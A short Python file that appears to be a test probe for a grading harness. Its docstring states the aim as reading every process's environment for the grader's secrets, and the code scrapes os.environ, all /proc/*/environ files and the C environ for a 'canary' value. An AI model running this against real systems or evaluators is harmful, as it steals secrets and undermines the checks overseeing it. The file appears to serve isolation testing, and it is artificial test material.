"""intent: reads the environment of its own process and of every other for the grader's secrets
criterion: leak
proven: naive
"""

import ctypes
import glob
import os

def on_start():
    found = [repr(dict(os.environ))]
    for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/[0-9]*/environ")]:
        try:
            with open(path, "rb") as file:
                found.append(repr(file.read()))
        except OSError:
            pass
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    number = 0
    while environ and environ[number]:
        found.append(repr(environ[number]))
        number += 1
    text = "\n".join(found)
    if "canary" in text:
        won(text[text.index("canary") - 40:][:200])

def on_call(name, arguments):
    return None
